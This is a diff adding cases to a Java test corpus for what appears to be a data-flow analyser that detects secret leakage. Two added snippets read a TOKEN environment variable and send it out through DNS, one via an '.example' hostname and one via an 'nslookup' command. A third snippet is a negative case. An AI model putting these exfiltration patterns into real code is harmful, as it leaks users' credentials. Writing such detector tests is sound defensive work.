@@ -534,6 +534,28 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        viaSend("Formatter.format into a StringBuilder it wraps", "library effects: receiver and wrapped builder (model effects)", true, """
+                package PKG;
+                import java.util.Formatter;
+                class A {
+                    void f() throws Exception {
+                        StringBuilder sb = new StringBuilder("id-");
+                        Formatter fmt = new Formatter(sb);
+                        fmt.format("%s.example", System.getenv("TOKEN"));
+                        Send.dns(sb.toString());
+                    }
+                }
+                """);
+        viaSend("ProcessBuilder.command(..., secret) then read back", "library effects: receiver (model effects)", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        ProcessBuilder pb = new ProcessBuilder();
+                        pb.command("nslookup", System.getenv("TOKEN"));
+                        Send.dns(String.join(".", pb.command()));
+                    }
+                }
+                """);
         inline("HttpClient request body", "library builders", """
                 package PKG;
                 import java.net.URI;
@@ -669,6 +691,20 @@ final class FlowCorpus {
                         SocketChannel ch = channels.get(token);
                         ch.write(ByteBuffer.wrap("hello".getBytes()));
                         ch.write(ByteBuffer.wrap("\\n".getBytes()));
+                    }
+                }
+                """);
+        viaSend("Map.put returns the previous value, not the one put", "negative: library effects (model effects)", false, """
+                package PKG;
+                import java.util.HashMap;
+                import java.util.List;
+                import java.util.Map;
+                class A {
+                    void f(List<String> names) throws Exception {
+                        Map<String, String> seen = new HashMap<>();
+                        String previous = seen.put("token", System.getenv("TOKEN"));
+                        String old = names.set(0, System.getenv("TOKEN"));
+                        Send.dns(previous + old + ".example");
                     }
                 }
                 """);
